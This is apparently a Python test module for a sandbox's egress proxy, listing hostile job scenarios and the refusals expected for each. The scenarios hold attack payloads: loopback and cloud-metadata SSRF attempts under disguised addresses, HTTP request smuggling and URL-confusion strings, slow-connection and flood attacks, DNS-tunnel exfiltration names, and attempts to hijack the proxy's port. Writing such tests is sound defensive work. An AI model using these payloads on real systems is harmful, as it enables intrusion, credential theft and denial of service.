"""The network, by a job that was given a way out to one host: everything else through the same door."""

from tests.hostile.attack import attack

__all__ = ["EGRESS"]


def nobody_heard(scene, _view):
    assert scene.allowed.heard == scene.closed.heard == []


def one_request_at_a_time(scene, _view):
    """Of all that was sent, what came at the front of a connection, for the host that it is for."""
    port = scene.allowed.port
    assert sorted(scene.allowed.heard) == [
        f"GET /host HTTP/1.1 localhost:{port}",
        f"GET /one HTTP/1.1 localhost:{port}",
        f"POST /hidden HTTP/1.1 localhost:{port}",
        f"POST /three HTTP/1.1 localhost:{port}",
    ]
    assert scene.closed.heard == []


def company_was_there(scene, _view):
    """The other job reached its host all the while."""
    assert scene.closed.heard
    assert scene.allowed.heard == []


def it_was_counted(_scene, view):
    assert view["outcomes"][0]["body"]["usage"]["network"]["sent_bytes"] > 1 << 20


def nothing_was_asked(scene, view):
    nobody_heard(scene, view)
    network = view["outcomes"][0]["body"]["usage"]["network"]
    assert network["connections"] == network["refused"] == network["sent_bytes"] == 0


EGRESS = (
    attack(
        "proxy to the host's loopback",
        "the coordinator, the daemon's status page and another service of the host, under ten names of loopback, by "
        "CONNECT and by plain requests",
        "400 or 403, and no packet",
        """
names = ("127.0.0.1", "localhost", "localhost.", "LOCALHOST", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1",
         "0.0.0.0", "[::]")
ports = (*PORTS, CLOSED)
say(refused(connect(f"{name}:{port}") for name in names for port in ports))
say(refused(told(f"GET http://{name}:{port}/healthz HTTP/1.1\\r\\n\\r\\n") for name in names for port in ports))
""",
        egress=True,
        lines=("True", "True"),
        after=(nobody_heard,),
    ),
    attack(
        "proxy to a cloud's metadata",
        "the metadata services of clouds through its proxy: as numbers, in disguise, and by name",
        "400 or 403",
        """
hosts = ("169.254.169.254", "[fd00:ec2::254]", "[::ffff:169.254.169.254]", "2852039166", "0xa9fea9fe", "169.254.43518",
         "metadata.google.internal", "metadata", "instance-data", "169.254.169.254.nip.io", "100.100.100.200")
say(refused(connect(f"{host}:80") for host in hosts))
say(refused(told(f"GET http://{host}/latest/meta-data/ HTTP/1.1\\r\\n\\r\\n") for host in hosts))
""",
        egress=True,
        lines=("True", "True"),
        after=(nobody_heard,),
    ),
    attack(
        "another port of its host",
        "other ports of the very host that it may reach, one of which another job may",
        "403: what is allowed is host and port, and each job's own",
        """
ports = (CLOSED, 22, 80, 443, 0, 65535, 65536, "", "ALLOWED1", "+ALLOWED")
say(refused(connect(f"localhost:{port}") for port in ports))
""",
        egress=True,
        lines=("True",),
        after=(nobody_heard,),
    ),
    attack(
        "smuggled requests",
        "a second request behind the first, in its body or in a field, to another host; lengths that contradict "
        "each other; targets with two hosts",
        "one request of announced length for each connection, the host said anew; all else 400, 403 or 501",
        r"""
a, c, end = "localhost:ALLOWED", "localhost:CLOSED", "\r\n\r\n"
second = f"GET http://{c}/two HTTP/1.1{end}"
def form(target, *fields, method="POST"):
    return "\r\n".join([f"{method} {target} HTTP/1.1", *fields]) + end
say(told(f"GET http://{a}/one HTTP/1.1{end}" + second))
say(told(form(f"http://{a}/three", "Content-Length: 4") + "body" + second))
say(told(form(f"http://{a}/host", f"Host: {c}", method="GET")))
say(told(form(f"http://{a}/hidden", "Content-Length: 4", "Connection: content-length, host") + "body" + second))
say(told(form(f"http://{a}/", "Transfer-Encoding: chunked") + "0" + end + second))
bad = (form(f"http://{a}/", "Content-Length: 4", "Content-Length: 5"), form(f"http://{a}/", "Content-Length: +4"),
       form(f"http://{a}/", "Content-Length: 4, 5"), form(f"http://{a}/", "Content-Length : 4"),
       form(f"http://{a}/", "X: y", " folded: z"), form(f"http://{a}/\r\nHost: {c}"),
       form(f"http://{a}/", f"X: y\nHost: {c}"),
       form(f"http://{a}/", f"X: y\rHost: {c}"), form(f"http://{a}@{c}/"), form(f"http://{c}#@{a}/"),
       form(f"http://{c}\\@{a}/"), form(f"http://{c}?@{a}/"), form(f"//{a}/"), form(f"https://{a}/"), form("/"),
       form("*", method="OPTIONS"), form(f"{a}/", method="CONNECT"), form(f"{a}@{c}", method="CONNECT"),
       form(f"{a} {c}", method="CONNECT"), form(f"{a}\0.{c}", method="CONNECT"), form(a, method="connect"))
say(refused(map(told, bad)))
""",
        egress=True,
        lines=("200", "501", "True"),
        after=(one_request_at_a_time,),
    ),
    attack(
        "slow and silent connections",
        "six hundred connections to its proxy that begin a request and don't end it",
        "32 at a time are looked at, the rest waits in the kernel; nobody else notices",
        """
held = []
for n in range(600):
    s = socket.socket(); s.setblocking(False); s.connect_ex(("127.0.0.1", 3128)); held.append(s)
for _ in range(10):
    for s in held: attempt(s.send, b"C")
    time.sleep(0.05)
say("held", len(held))
""",
        egress=True,
        lines=("held 600",),
        after=(nothing_was_asked,),
    ),
    attack(
        "connections by the thousand",
        "to ask its proxy again and again, as fast as it answers, for what it gets and for what it does not get",
        "answered in turns with all else that the daemon does",
        """
end, n = time.monotonic() + 0.6, 0
while time.monotonic() < end:
    connect("localhost:CLOSED"); connect("localhost:ALLOWED1"); n += 2
say("asked", n > 20)
""",
        egress=True,
        lines=("asked True",),
        after=(nobody_heard,),
    ),
    attack(
        "as much as goes through",
        "to keep the daemon busy with what it sends to the host that it may reach, by eight tunnels at once",
        "passed on, counted, in turns with all else that the daemon does",
        """
import threading
end = time.monotonic() + 0.6
def pump():
    with socket.create_connection(("127.0.0.1", 3128), 10) as s:
        s.sendall(b"CONNECT localhost:ALLOWED HTTP/1.1\\r\\n\\r\\n"); s.recv(100)
        s.sendall(b"POST /sink HTTP/1.1\\r\\n\\r\\n")
        while time.monotonic() < end: s.sendall(bytes(1 << 16))
threads = [threading.Thread(target=pump) for _ in range(8)]
for one in threads: one.start()
for one in threads: one.join()
say("pumped")
""",
        egress=True,
        lines=("pumped",),
        after=(it_was_counted,),
    ),
    attack(
        "DNS tunnel by the proxy",
        "to carry data out in the names that it asks its proxy for",
        "403; a name that is not allowed is not looked up",
        """
say(refused(connect(f"{n:03}.{'5ec2e7' * 8}.tunnel.example:443") for n in range(100)))
say(refused(told(f"GET http://{n:03}.{'5ec2e7' * 8}.tunnel.example/ HTTP/1.1\\r\\n\\r\\n") for n in range(100)))
""",
        egress=True,
        lines=("True", "True"),
        after=(nobody_heard,),
    ),
    attack(
        "another job's proxy",
        "the way out of a job beside it that has one, without having one itself",
        "not there: each proxy listens in its job's own network, and no socket of it is in any folder",
        """
reach = socket.create_connection
say(attempt(reach, ("127.0.0.1", 3128), 5), attempt(reach, ("::1", 3128), 5) != "ok")
import stat
places = ("/job", "/tmp", "/dev", "/run", "/var")
found = [os.path.join(top, name) for place in places for top, _, names in os.walk(place) for name in names
         if stat.S_ISSOCK(os.lstat(os.path.join(top, name)).st_mode)]
say(found, [len(open("/proc/net/" + name).readlines()) for name in ("tcp", "tcp6", "unix")])
say(sorted(name for name in os.environ if "proxy" in name.lower()))
""",
        company="""
end = time.monotonic() + 5
with socket.create_connection(("127.0.0.1", 3128), 10) as s:
    s.sendall(b"GET http://localhost:CLOSED/ HTTP/1.1\\r\\n\\r\\n")
    assert b" 200 " in s.recv(100)
""",
        lines=("ECONNREFUSED True", "[] [1, 1, 1]", "[]"),
        after=(company_was_there,),
    ),
    attack(
        "the place of its proxy",
        "to stand where its proxy listens, or to have it end",
        "the place is taken before it begins, and what it signals is its own",
        """
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
say(attempt(s.bind, ("127.0.0.1", 3128)), attempt(os.kill, -1, 9), refused([connect("localhost:CLOSED")]))
""",
        egress=True,
        lines=("EADDRINUSE ESRCH True",),
        after=(nobody_heard,),
    ),
)
